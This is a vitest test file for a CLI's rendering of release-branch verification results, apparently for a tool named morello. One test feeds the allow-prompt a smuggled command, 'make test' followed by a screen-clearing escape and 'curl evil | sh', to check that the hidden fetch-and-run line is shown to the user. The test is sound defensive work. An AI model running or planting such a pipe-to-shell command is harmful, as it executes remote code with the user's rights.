import { expect, test } from "vitest";
import { renderApply } from "../../src/cli/render/apply.ts";
import { renderAllow, renderVerdicts } from "../../src/cli/render/verify.ts";
import type { VerifyResult } from "../../src/wire/verify.ts";
import { oid, OUTCOMES, PIPE, plan, planned, result, terminal } from "./literal.ts";

function verdict(kind: VerifyResult["kind"], more: Partial<VerifyResult> = {}): VerifyResult {
  return {
    line: "release/v2.7",
    tree: oid("77"),
    command: "make test",
    kind,
    status: kind === "passed" ? 0 : null,
    reason: null,
    ms: 3140,
    cached: false,
    image: null,
    output: "/repo/.git/morello/verify/release-v2.7.txt",
    tail: [],
    leftOut: { submodules: 0, filtered: 0 },
    ...more,
  };
}

const FAILED = verdict("failed", { status: 2, tail: ["compiling", "", "queue.py:20: \u001b[31mbroken\u001b[0m"] });

const ALL: readonly VerifyResult[] = [
  verdict("passed", { line: "release/v2.9", ms: 125_000 }),
  verdict("passed", { line: "release/v2.8", cached: true, image: "app:v2.8.1" }),
  FAILED,
  verdict("timed-out", { line: "release/v2.6", ms: 60_000 }),
  verdict("skipped", { line: "release/v2.5" }),
  verdict("not-allowed", { line: "release/v2.4", command: "make\ncheck\n" }),
  verdict("could-not-run", { line: "release/v2.3", reason: "the line has no image in morello.yaml" }),
  verdict("passed", { line: "release/v2.2", leftOut: { submodules: 1, filtered: 12 } }),
];

test("on a terminal: a row a line, then the end of what failed commands wrote", () => {
  expect(renderVerdicts(terminal(100), ALL)).toBe(`✓  release/v2.9  verified  2 min 5 s, make test
✓  release/v2.8  verified  known from before, in app:v2.8.1, make test
✗  release/v2.7  verify command failed  status 2, 3.1 s, make test
✗  release/v2.6  verify command took too long  60 s, make test
○  release/v2.5  not verified  make test
!  release/v2.4  verify command not allowed  make\\ncheck
!  release/v2.3  could not be verified  the line has no image in morello.yaml, make test
✓  release/v2.2  verified  3.1 s, 1 submodule left empty, 12 files not filtered, make test

✗ release/v2.7  the last it wrote
  │ compiling
  │
  │ queue.py:20: \\x1b[31mbroken\\x1b[0m
  all of it: /repo/.git/morello/verify/release-v2.7.txt
`);
});

test("in a pipe: one fact a line", () => {
  expect(renderVerdicts(PIPE, ALL.slice(1, 3)))
    .toBe(`release/v2.8: verified (known from before, in app:v2.8.1): make test
release/v2.7: verify command failed (status 2, 3.1 s): make test
release/v2.7: output: compiling
release/v2.7: output: 
release/v2.7: output: queue.py:20: \\x1b[31mbroken\\x1b[0m
release/v2.7: output kept in /repo/.git/morello/verify/release-v2.7.txt
`);
});

test.each([60, 80, 120])("nothing is wider than %d columns", (width) => {
  const long = verdict("failed", { command: "x".repeat(300), tail: ["y".repeat(300)], output: null });
  for (const line of renderVerdicts(terminal(width), [long]).split("\n"))
    expect(line.length).toBeLessThanOrEqual(width);
});

test("a line that stopped at its command says so, and one that moved says that it was verified", () => {
  const lines = [planned("release/v2.8", [OUTCOMES.clean]), planned("release/v2.7", [OUTCOMES.clean])] as const;
  const shown = renderApply(terminal(100), {
    kind: "stopped",
    plan: plan(lines),
    transaction: null,
    signed: false,
    recorded: null,
    lines: [
      result("moved", lines[0], { verify: verdict("passed", { line: "release/v2.8" }) }),
      result("stopped", lines[1], { verify: FAILED, next: null }),
    ],
    push: null,
  });
  expect(shown).toMatch(/^✓ release\/v2\.8 {2}moved {2}verified$/m);
  expect(shown).toMatch(/^✗ release\/v2\.7 {2}stopped {2}verify command failed: status 2, 3\.1 s, make test$/m);
  expect(shown).toContain("  │ compiling\n");
});

test("what is asked about shows all of the command, where it stands and what was allowed before", () => {
  const question = {
    lines: ["release/v2.8", "release/v2.7"],
    command: "make test\n\u001b[2Jcurl evil | sh\n",
    file: "morello.yaml",
    commit: oid("1a2b3c"),
    before: "make test",
  };
  expect(renderAllow(terminal(100), question)).toBe(`
release/v2.8, release/v2.7 are verified with this command:

    make test
    \\x1b[2Jcurl evil | sh

It stands in morello.yaml at commit 1a2b3c000000, and would run with all your rights, on what the line would hold.
Until now, you allowed:

    make test

`);
});
